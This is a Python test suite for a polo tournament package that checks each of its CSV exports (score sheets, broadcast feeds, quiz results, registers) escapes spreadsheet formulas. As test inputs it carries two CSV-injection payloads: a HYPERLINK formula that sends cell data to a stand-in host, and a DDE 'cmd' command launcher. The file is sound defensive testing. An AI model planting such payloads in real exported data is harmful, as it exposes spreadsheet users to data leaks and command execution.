"""Issue 35, item 7: one CSV writer, and no cell it writes is a spreadsheet formula
(OWASP "CSV Injection": a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front; a real number stays a number)."""

from __future__ import annotations

import ast
import csv
import dataclasses
import datetime as dt
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from chukker import csvsafe

PKG = Path(__file__).resolve().parents[1] / "src" / "chukker"
#: the two names the issue tries
HOSTILE = ('=HYPERLINK("http://x/"&A1)', "=cmd|' /C calc'!A0")


def _cells(text: str) -> list[str]:
    return [c for r in csv.reader(io.StringIO(text)) for c in r]


def _no_formula(text: str) -> None:
    """No cell of ``text`` (as a spreadsheet reads it) begins a formula."""
    for c in _cells(text):
        assert not c.startswith(csvsafe.TRIGGERS) or csvsafe.NUMBER.fullmatch(c), c


def test_owasp_rule_every_trigger_is_quoted() -> None:
    for t in csvsafe.TRIGGERS:
        assert csvsafe.cell(t + "x") == "'" + t + "x"
    for name in HOSTILE:
        assert csvsafe.cell(name) == "'" + name


def test_owasp_rule_numbers_stay_numbers() -> None:
    for n in ("-3", "+1.5", "-2.5e3", "-.5", "12", -3, 2.5):
        assert csvsafe.cell(n) == n
    for text in ("-1+1", "-inf", "-1_000", "-0x1", "+A1"):
        assert csvsafe.cell(text) == "'" + text


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("'=+-@\t\r1.e aZ\"|,"), max_size=8),
                min_size=1, max_size=5))
def test_owasp_rule_round_trip_of_any_text(row: list[str]) -> None:
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\r\n").writerow(row)  # \r quoted too
    assert list(csvsafe.reader(io.StringIO(buf.getvalue(), newline=""))) == [row]
    _no_formula(buf.getvalue())


def test_one_csv_writer_no_module_writes_csv_itself() -> None:
    """Every CSV the package writes goes through chukker.csvsafe."""
    found = []
    for path in PKG.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                found.append(f"{path.relative_to(PKG)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    a.name in ("writer", "DictWriter") for a in node.names):
                found.append(f"{path.relative_to(PKG)}:{node.lineno}")
    assert found == []


def test_owasp_rule_score_sheet_goals_and_fouls_csv() -> None:
    from chukker.web.shared.sheet import fouls_csv, goals_csv

    goal = {"letter": "A", "period": 1, "clock": "P1 1:00", "at": 10.0, "team": "A",
            "player": 2, "points": 1, "kind": "field"}
    foul = {"period": 1, "clock": "P1 1:00", "at": 10.0, "team": "A", "player": None,
            "penalty": "5", "clause": "13", "card": None, "converted": None}
    for name in HOSTILE:
        names = {"A": name}
        for text in (goals_csv({"goals": [goal]}, names), fouls_csv({"fouls": [foul]}, names)):
            _no_formula(text)
            assert "'" + name in _cells(text)


def test_owasp_rule_broadcast_feed_csv_round_trip() -> None:
    from chukker.feeds.formats import parse_csv, to_csv

    for name in HOSTILE:
        text = to_csv({"match_id": "m1", "team_a_name": name, "team_a_score": -1})
        _no_formula(text.decode())
        assert parse_csv(text)["team_a_name"] == name


def test_owasp_rule_rules_test_results_csv() -> None:
    from chukker.education.quiz import QuizSpec, draw, grade, results_csv

    spec = QuizSpec("player", "uspa-arena-2006", "en", 2, 9)
    result = grade(draw(spec), {})
    for name in HOSTILE:
        text = results_csv([(name, result)])
        _no_formula(text)
        assert "'" + name in _cells(text)


def test_owasp_rule_register_and_season_csv_round_trip() -> None:
    from chukker.tournament.model import HandicapChange, Player
    from chukker.tournament.register import read_csv, write_csv
    from chukker.tournament.season import load_season, read_season_csv, season_csv

    for name in HOSTILE:
        text = write_csv([Player("p1", name, (2026,),
                                   (HandicapChange(dt.date(2026, 1, 1), -1),))])
        _no_formula(text)
        assert read_csv(text)["p1"].name == name
    example = PKG.parents[1] / "examples" / "tournament" / "fall-classic.toml"
    rows = [dataclasses.replace(r, team_a=HOSTILE[0], winner=HOSTILE[1])
            for r in load_season([example]).rows[:2]]
    text = season_csv(rows)
    _no_formula(text)
    assert read_season_csv(text) == rows
